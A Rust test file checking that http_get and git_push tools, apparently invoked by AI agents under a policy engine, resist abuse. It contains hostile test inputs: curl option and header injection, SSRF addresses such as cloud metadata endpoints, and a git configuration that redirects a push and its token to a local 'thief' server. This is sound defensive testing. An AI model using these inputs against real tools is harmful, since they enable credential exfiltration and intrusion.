//! The tools with the network, against a server of the test's own on 127.0.0.1.

use super::kit::{bring, call, call_with, checkout, have, messages, repository, sh, shipped, text};
use crate::harness::{Project, Who, everybody, ordinary};
use serde_json::json;
use std::fs;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::sync::mpsc::{Receiver, channel};

/// A request: its first line, its headers in lower case, its body.
struct Request {
    line: String,
    headers: Vec<String>,
    body: Vec<u8>,
}

fn read(stream: &TcpStream) -> Option<Request> {
    let mut reader = BufReader::new(stream);
    let mut lines = Vec::new();
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).ok()? == 0 {
            return None;
        }
        match line.trim_end() {
            "" => break,
            line => lines.push(line.to_owned()),
        }
    }
    let headers: Vec<_> = lines.iter().skip(1).map(|line| line.to_lowercase()).collect();
    let length = headers.iter().find_map(|line| line.strip_prefix("content-length: ")?.parse().ok());
    let mut body = vec![0; length.unwrap_or(0)];
    reader.read_exact(&mut body).ok()?;
    // The values of headers as they were, for what is told apart by case.
    let headers = lines.iter().skip(1).cloned().collect();
    Some(Request { line: lines.first()?.clone(), headers, body })
}

/// Serves until the test ends; `answer` gives the whole response.
fn serve(answer: impl Fn(&Request) -> Vec<u8> + Send + 'static) -> (u16, Receiver<Request>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (send, requests) = channel();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            if let Some(request) = read(&stream) {
                let _ = stream.write_all(&answer(&request));
                let _ = send.send(request);
            }
        }
    });
    (port, requests)
}

fn response(status: &str, headers: &str, body: &[u8]) -> Vec<u8> {
    let head =
        format!("HTTP/1.1 {status}\r\n{headers}Content-Length: {}\r\nConnection: close\r\n\r\n", body.len());
    [head.as_bytes(), body].concat()
}

/// The shipped tools under a policy that lets one of them out without a person, to this machine too.
fn out(who: &Who, tool: &str, effects: &str) -> Project {
    let project = Project::of(who);
    bring(&project);
    for name in ["delegate", "workspace"] {
        fs::remove_file(project.dir().join(format!("policies/{name}.yaml"))).unwrap();
    }
    project.file(
        "policies/main.yaml",
        format!(
            "policy: main\nformat: 1\nrole: host\ndefault: deny\neffects: {{ {tool}: [{{ effect: {effects} }}] }}\n\
             rules:\n  - {{ id: out, tool: {tool}, always: true, action: allow }}\n"
        ),
    );
    project
}

#[test]
fn http_get_fetches_one_answer() {
    if !have(&["curl"]) {
        return;
    }
    for who in everybody() {
        let project = out(&who, "http_get", "external");
        project.trusted();
        let (port, requests) = serve(|request| match request.line.split(' ').nth(1).unwrap() {
            "/ok" => response("200 OK", "Content-Type: application/json\r\n", b"{\"a\":1}"),
            "/away" => response("302 Found", "Location: file:///etc/passwd\r\n", b""),
            "/on" => response("302 Found", "Location: /ok\r\n", b""),
            "/large" => response("200 OK", "", &vec![b'x'; 5 << 20]),
            _ => response("404 Not Found", "", b"no such thing\n"),
        });
        let url = |path: &str| json!({"url": format!("http://127.0.0.1:{port}{path}")});
        let ok = call(&project, "http_get", &url("/ok"), 0);
        assert_eq!(text(&ok), "{\"a\":1}");
        assert!(messages(&ok).contains("status 200, type application/json, 7 bytes"), "{ok}");
        let request = requests.recv().unwrap();
        assert!(request.line.starts_with("GET /ok HTTP/"), "{}", request.line);
        assert!(request.headers.iter().any(|line| line == "Accept: */*"), "{:?}", request.headers);

        for path in ["/on", "/away"] {
            let moved = call(&project, "http_get", &url(path), 0);
            assert!(text(&moved).is_empty() && messages(&moved).contains("status 302"), "{moved}");
            requests.recv().unwrap();
        }
        let missing = call(&project, "http_get", &url("/none"), 20);
        assert_eq!(text(&missing), "no such thing\n");
        requests.recv().unwrap();
        let large = call(&project, "http_get", &url("/large"), 20);
        assert!(text(&large).len() < 1000, "a file above the limit is not returned");
        requests.recv().unwrap();
        assert!(requests.try_recv().is_err(), "a redirect was followed");

        let mut headers = url("/ok");
        headers["headers"] = json!(true);
        headers["accept"] = json!("application/json");
        assert!(text(&call(&project, "http_get", &headers, 0)).starts_with("HTTP/1.1 200 OK\r\n"));
        assert!(requests.recv().unwrap().headers.contains(&"Accept: application/json".to_owned()));
    }
}

#[test]
fn http_get_takes_no_other_url() {
    let project = out(&ordinary(), "http_get", "external");
    project.trusted();
    for url in [
        "file:///etc/passwd",
        "ftp://example.com/",
        "scp://example.com/x",
        "https://user:word@example.com/",
        "-K/etc/passwd",
        "@/etc/passwd",
        "",
        "example.com",
        "https://example.com/[1-3]{a,b}",
    ] {
        call(&project, "http_get", &json!({ "url": url }), 3);
    }
    let accept = json!({"url": "https://example.com/", "accept": "x\r\nAuthorization: y"});
    call(&project, "http_get", &accept, 3);
}

#[test]
fn fetching_asks_and_inner_addresses_are_denied() {
    let project = shipped(&ordinary());
    let run = |url: &str, code| {
        project.run(["run", "http_get", "--format", "json", "-a", &format!("url={url}")]).expect(code).json()
    };
    for url in [
        "http://localhost/",
        "http://LOCALHOST:80/",
        "http://127.1/",
        "http://0x7f000001/",
        "http://2130706433:8080/x",
        "http://0/",
        "http://[::1]:9/",
        "http://[::ffff:127.0.0.1]/",
        "http://169.254.169.254/latest/",
        "http://a.localhost./",
        "https://metadata.google.internal/?x",
    ] {
        assert_eq!(run(url, 10)["decision"]["rule"], "workspace/inner-addresses", "{url}");
    }
    for url in ["https://example.com/", "http://localhost.example.com/127.0.0.1", "https://1.2.3.4/"] {
        assert_eq!(run(url, 11)["decision"]["rule"], "workspace/fetch", "{url}");
    }
}

/// A line of git's protocol; an empty one ends a list.
fn packet(text: &str) -> String {
    if text.is_empty() { "0000".to_owned() } else { format!("{:04x}{text}", text.len() + 4) }
}

/// A server that takes a push: the first answer asks for a login, the others want this one.
fn receiver(login: &'static str) -> (u16, Receiver<Request>) {
    serve(move |request| {
        let authorized = format!("Authorization: Basic {login}");
        if !request.headers.contains(&authorized) {
            return response("401 Unauthorized", "WWW-Authenticate: Basic realm=\"x\"\r\n", b"");
        }
        if request.line.starts_with("GET") {
            let refs = format!("{} capabilities^{{}}\0report-status object-format=sha1\n", "0".repeat(40));
            let body =
                [packet("# service=git-receive-pack\n"), packet(""), packet(&refs), packet("")].concat();
            let kind = "Content-Type: application/x-git-receive-pack-advertisement\r\n";
            return response("200 OK", kind, body.as_bytes());
        }
        let body = [packet("unpack ok\n"), packet("ok refs/heads/fix/a\n"), packet("")].concat();
        response("200 OK", "Content-Type: application/x-git-receive-pack-result\r\n", body.as_bytes())
    })
}

/// git_push with another host in place of the one that its script fixes.
fn pushing_to(project: &Project, port: u16) {
    let script = fs::read_to_string(checkout().join("tools.d/git_push.sh")).unwrap();
    let host = format!("http://127.0.0.1:{port}");
    assert_eq!(script.matches("https://github.com").count(), 2, "the script fixes one host, twice");
    project.file("tools.d/git_push.sh", script.replace("https://github.com", &host));
    let manifest = fs::read_to_string(checkout().join("tools.d/git_push.yaml")).unwrap();
    project.file(
        "tools.d/git_push.yaml",
        manifest.replace("GIT_ALLOW_PROTOCOL: https", "GIT_ALLOW_PROTOCOL: http"),
    );
    project.file_at(&project.outside().join("home/config/toolctl.yaml"), "forwardableEnv: [GITHUB_TOKEN]\n");
    project.trusted();
}

/// `x-access-token:CANARY` in base64.
const LOGIN: &str = "eC1hY2Nlc3MtdG9rZW46Q0FOQVJZ";

#[test]
fn a_push_goes_to_the_fixed_host_with_the_forwarded_token() {
    if !have(&["git"]) {
        return;
    }
    for who in everybody() {
        let project = out(&who, "git_push", "[write, external]");
        let (port, requests) = receiver(LOGIN);
        let (thief, stolen) = serve(|_| response("200 OK", "", b""));
        pushing_to(&project, port);
        repository(&project);
        // What a hostile configuration would do with a push.
        let evil = project.outside().join("pwned");
        sh(
            &project,
            &format!(
                "git checkout -q -b fix/a && git config url.http://127.0.0.1:{thief}/.insteadOf http://127.0.0.1:{port}/ && \
                 git config http.proxy http://127.0.0.1:{thief} && git config http.curloptResolve x:1:127.0.0.1 && \
                 git config credential.helper '!touch {0}' && git config push.followTags true && \
                 printf '#!/bin/sh\\ntouch {0}\\n' >.git/hooks/pre-push && chmod +x .git/hooks/pre-push",
                evil.display()
            ),
        );
        let args = json!({"repository": "o/r.git", "branch": "fix/a"});
        let ran = call_with(&project, &[("GITHUB_TOKEN", "CANARY")], "git_push", &args).expect(0);
        assert!(ran.out().contains("refs/heads/fix/a\t[new branch]"), "{}", ran.out());
        assert!(!ran.out().contains("CANARY") && !ran.stderr.contains("CANARY"));
        let lines: Vec<_> = requests.try_iter().collect();
        assert!(
            lines[0].line.starts_with("GET /o/r.git/info/refs?service=git-receive-pack "),
            "{}",
            lines[0].line
        );
        let pack = lines.last().unwrap();
        assert!(pack.line.starts_with("POST /o/r.git/git-receive-pack "), "{}", pack.line);
        let commit = sh(&project, "git rev-parse fix/a");
        assert!(String::from_utf8_lossy(&pack.body).contains(&format!("{} refs/heads/fix/a", commit.trim())));
        assert!(pack.body.windows(4).any(|four| four == b"PACK"));
        assert!(stolen.try_recv().is_err(), "the token or the push went elsewhere");
        assert!(!evil.exists(), "something of the configuration was started");
        assert_eq!(sh(&project, "git status --porcelain"), "");
    }
}

#[test]
fn a_push_without_token_branch_or_protocol_fails() {
    if !have(&["git"]) {
        return;
    }
    let project = out(&ordinary(), "git_push", "[write, external]");
    let (port, _requests) = receiver(LOGIN);
    pushing_to(&project, port);
    repository(&project);
    let push = |branch: &str, token: &str| {
        let args = json!({"repository": "o/r", "branch": branch});
        call_with(&project, &[("GITHUB_TOKEN", token)], "git_push", &args)
    };
    push("main", "wrong").expect(20).says("Authentication failed");
    push("main", "").expect(20);
    push("none", "CANARY").expect(20).says("there is no branch none");
    push("a..b", "CANARY").expect(20).says("is no name of a branch");
    push("-f", "CANARY").expect(3);
    push("+main", "CANARY").expect(3);
    push("main:other", "CANARY").expect(3);
    for repository in ["../x", "o/r/x", "-o/r", "https://evil/x", "o/r?x", "o/..", "@x/y"] {
        let args = json!({"repository": repository, "branch": "main"});
        let ran = call_with(&project, &[], "git_push", &args);
        assert!([3].contains(&ran.code.unwrap()), "{repository}: {:?}", ran.code);
    }
    // The protocol that the shipped manifest allows is https alone.
    let manifest = fs::read(checkout().join("tools.d/git_push.yaml")).unwrap();
    project.file("tools.d/git_push.yaml", manifest);
    push("main", "CANARY").expect(20).says("transport 'http' not allowed");
}

#[test]
fn a_push_asks_and_names_the_variable_that_may_not_leave() {
    let project = shipped(&ordinary());
    repository(&project);
    let plan = ["plan", "git_push", "-a", "repository=o/r", "-a", "branch=main"];
    project.run(plan).expect(4).says("GITHUB_TOKEN").says("forwardableEnv");
    project.file_at(&project.outside().join("home/config/toolctl.yaml"), "forwardableEnv: [GITHUB_TOKEN]\n");
    let out = project.run(plan).expect(11).out();
    for text in ["workspace/push", "write, external", "network host"] {
        assert!(out.contains(text), "{text} is not in\n{out}");
    }
}
